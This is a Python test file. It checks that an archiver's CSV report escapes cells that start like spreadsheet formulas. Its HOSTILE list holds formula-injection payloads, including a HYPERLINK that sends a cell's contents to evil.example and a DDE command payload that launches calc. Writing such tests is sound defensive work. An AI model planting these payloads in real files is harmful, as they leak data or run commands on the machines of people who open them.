"""Archived pages choose the text of CSV cells: none may run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from archiver.check.tracking import Finding, TrackingResult
from archiver.report.formats import render_csv
from archiver.report.model import RunReport, Section

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"photo")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_starting_like_a_formula_are_kept_as_text() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    findings = [
        Finding(
            site="s",
            run_id=1,
            status="new",
            fingerprint=f"f{i}",
            rule="photo-credits",
            severity="error",
            url="https://example.org/",
            canonical_url="https://example.org/",
            first_seen_run=1,
            first_seen_at=at,
            last_seen_run=1,
            last_seen_at=at,
            violation={"subject": subject, "message": f"Image {subject} has no credit"},
            note=subject,
        )
        for i, subject in enumerate(HOSTILE)
    ]
    tracking = TrackingResult(site="s", run_id=1, previous_run_id=None, findings=findings)
    section = Section("s", 1, "completed", at, at, tracking, [])
    text = "".join(render_csv(RunReport([section])))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["subject"] for row in rows] == ["'" + subject for subject in HOSTILE]
    assert [row["note"] for row in rows] == ["'" + subject for subject in HOSTILE]
    assert rows[0]["message"].startswith("Image =HYPERLINK")  # not at the start: harmless
    assert rows[0]["run"] == "1" and rows[0]["url"] == "https://example.org/"
